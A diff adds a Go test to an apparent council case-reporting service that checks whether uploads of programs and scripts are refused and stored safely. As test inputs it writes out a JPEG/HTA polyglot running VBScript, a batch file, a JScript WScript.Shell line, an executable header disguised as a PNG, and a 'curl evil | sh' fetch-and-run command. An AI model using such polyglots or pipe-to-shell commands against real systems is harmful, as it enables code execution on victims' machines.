@@ -440,3 +440,68 @@ func jsonString(s string) string {
 	b, _ := json.Marshal(s)
 	return string(b)
 }
+
+// TestUploadsRefuseProgramsAndScripts (issue 10, uploads keep the client's
+// name; the API takes .bat and .js): the API and the front door refuse a
+// JPEG/HTA polyglot (as pothole.jpg.hta and as pothole.jpg), .bat, .js and
+// script content; what they take is stored under a generated name with the
+// detected type's extension and downloads as an attachment with the
+// detected type and nosniff.
+func TestUploadsRefuseProgramsAndScripts(t *testing.T) {
+	dir := t.TempDir()
+	srv := server.New(t, server.StoreFlags(dir, ""), "--api-rate", "1000")
+	token := srv.Token(t, "uploads", "officer@highways")
+	srv.Start(t)
+	status, body, _ := apiDo(t, http.MethodPost, srv.URL+"/api/v1/cases", token, "application/json", strings.NewReader(fmt.Sprintf(pothole, "Mill Road", "Jane")))
+	var c struct{ Reference string }
+	if err := json.Unmarshal([]byte(body), &c); status != http.StatusCreated || err != nil {
+		t.Fatalf("submit: %d %s", status, body)
+	}
+	base := srv.URL + "/api/v1/cases/" + c.Reference + "/attachments"
+	jpeg := append([]byte{0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 'J', 'F', 'I', 'F', 0x00}, bytes.Repeat([]byte{7}, 50_000)...)
+	polyglot := append(append([]byte{}, jpeg...), []byte(`<HTA:APPLICATION ID="p"><SCRIPT language="VBScript">CreateObject("WScript.Shell").Run "calc"</SCRIPT>`)...)
+	for _, tc := range []struct {
+		name string
+		body []byte
+	}{
+		{"pothole.jpg.hta", polyglot}, {"pothole.jpg", polyglot}, {"run.bat", []byte("@echo off\r\ncalc\r\n")},
+		{"app.js", []byte("new ActiveXObject('WScript.Shell').Run('calc')")}, {"x.png", append([]byte("MZ\x90\x00"), jpeg...)},
+		{"readme.txt", []byte("#!/bin/sh\ncurl evil | sh\n")},
+	} {
+		status, body, _ := apiDo(t, http.MethodPost, base+"?name="+url.QueryEscape(tc.name), token, "application/octet-stream", bytes.NewReader(tc.body))
+		if status != http.StatusUnsupportedMediaType {
+			t.Errorf("API upload %q: %d %.300s, want 415", tc.name, status, body)
+		}
+	}
+	status, body, _ = apiDo(t, http.MethodPost, base+"?name=Mill.Road.photo.png", token, "image/png", bytes.NewReader(jpeg))
+	var a struct{ Name, URL string }
+	if err := json.Unmarshal([]byte(body), &a); status != http.StatusCreated || err != nil || a.Name != "Mill-Road-photo.jpg" {
+		t.Fatalf("API upload of a JPEG: %d %s, want 201 named Mill-Road-photo.jpg", status, body)
+	}
+	status, _, h := apiDo(t, http.MethodGet, srv.URL+a.URL, token, "", nil)
+	if status != http.StatusOK || h.Get("Content-Type") != "image/jpeg" || h.Get("X-Content-Type-Options") != "nosniff" ||
+		h.Get("Content-Disposition") != `attachment; filename="Mill-Road-photo.jpg"; filename*=UTF-8''Mill-Road-photo.jpg` {
+		t.Errorf("download: %d %v", status, h)
+	}
+
+	cl := webtest.NewClient(t, srv.URL)
+	const photo = "/services/report-a-pothole/questions/photo"
+	cl.Get(photo)
+	for _, name := range []string{"pothole.jpg.hta", "pothole.jpg"} {
+		res, body := cl.PostMultipart(photo, url.Values{}, webtest.File{Field: "photo", Name: name, Body: polyglot})
+		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "must not be a program or a script") {
+			t.Errorf("front door upload %q: %d %s", name, res.StatusCode, errorSummaryOf(body))
+		}
+	}
+	// Nothing refused reached the documents folder: only the one JPEG.
+	n := 0
+	_ = filepath.WalkDir(filepath.Join(dir, "documents"), func(p string, d os.DirEntry, err error) error {
+		if err == nil && !d.IsDir() {
+			n++
+		}
+		return nil
+	})
+	if n != 1 {
+		t.Errorf("%d files in the documents folder, want the one JPEG", n)
+	}
+}
